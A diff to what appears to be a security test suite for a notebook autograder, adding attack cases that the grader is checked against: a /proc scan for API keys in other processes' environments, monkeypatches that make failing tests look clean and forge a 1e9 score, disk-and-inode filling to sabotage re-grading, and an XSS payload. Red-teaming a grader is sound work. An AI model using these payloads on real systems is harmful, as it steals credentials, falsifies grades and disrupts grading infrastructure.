@@ -126,6 +126,13 @@ except OSError as e:
     print("no network:", type(e).__name__)
 for code in stolen:
     exec(code, globals())
+for entry in os.listdir("/proc"):  # every process it can see, the sandbox's own pid 1 too
+    try:
+        environ = open(f"/proc/{entry}/environ", "rb").read()
+    except OSError:
+        continue
+    if b"ANTHROPIC_API_KEY" in environ:
+        print("environ of", entry, environ.decode(errors="replace"))
 print("key:", os.environ.get("ANTHROPIC_API_KEY"), "stolen:", len(stolen))"""
 
 ANSWER_KEY = (
@@ -237,6 +244,72 @@ SCRIPT_INJECTION = (
 )
 
 
+QUIET_TESTS = r"""# every later cell, the test cells too, is recorded as having run without an error
+import resumable_core.course.grading.inside.shell as _shell
+_run_cell = _shell.run_cell
+def _quiet(shell, source, count, timeout):
+    _run_cell(shell, source, count, timeout)
+    return []
+_shell.run_cell = _quiet"""
+
+FILL = r"""
+def _fill(folder):  # bytes, then inodes, of the tmpfs the re-check's folders are on
+    i = 0
+    for size in (1 << 20, 1 << 12, 1):
+        full = False
+        while not full:  # files of 32 MiB at most: under the file-size cap
+            try:
+                with open(f"{folder}/.fill{i}", "wb") as f:
+                    for _ in range((32 << 20) // size):
+                        f.write(b"x" * size)
+                        f.flush()
+            except OSError:
+                full = True
+            i += 1
+    while True:
+        try:
+            open(f"{folder}/.inode{i}", "wb").close()
+            i += 1
+        except OSError:
+            break
+"""
+
+FILL_SHARED = (
+    QUIET_TESTS
+    + FILL
+    + r"""
+import os, threading, time
+def _when_serving():  # once the cells ran: the host writes the re-check's inputs after that
+    while not os.path.exists("/grading/rpc/learner.sock"):
+        time.sleep(0.02)
+    _fill("/grading/shared")
+threading.Thread(target=_when_serving, daemon=True).start()"""
+)
+
+FILL_THEN_EXIT = (
+    FILL
+    + r"""
+import os
+_fill("/grading/shared")
+open("/grading/scratch/notes.txt", "wb").write(b"n" * 100_000)  # for the host to copy back
+os._exit(0)"""
+)
+
+OVER_MAX = r"""# the record says every test ran clean and the last one earned 1e9 points: nbgrader saves, then fails
+import resumable_core.course.grading.inside.shell as _shell
+_save = vars(_shell)["_save"]
+def _forged(nb, path):
+    tests = [c for c in nb["cells"] if (c.get("metadata") or {}).get("nbgrader", {}).get("grade")
+             and c.get("cell_type") == "code"]
+    for c in tests:
+        c["outputs"] = []
+    if tests:
+        tests[-1]["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "1e9"},
+                                 "metadata": {}, "execution_count": 1}]
+    _save(nb, path)
+vars(_shell).update(_save=_forged)"""
+
+
 # student -> (cells added after ``reconcile``, answers by cell id)
 ATTACKS: dict[str, tuple[list[str], dict[str, str]]] = {
     "tamper": ([TAMPER], {}),
@@ -251,6 +324,9 @@ ATTACKS: dict[str, tuple[list[str], dict[str, str]]] = {
         {"level1_why": f"My answer {SCRIPT} <img src=x onerror=alert(1)>"},
     ),
     "force_inconclusive": ([FORCE_INCONCLUSIVE], {}),
+    "fill_shared": ([FILL_SHARED], {}),
+    "fill_then_exit": ([FILL_THEN_EXIT], {}),
+    "over_max": ([OVER_MAX], {}),
 }
 CONTROLS = {"correct": samples.REAL_CORRECT, "wrong": samples.REAL_RERUN}
 CORRECT_SCORE = samples.SAMPLES["correct"][2]
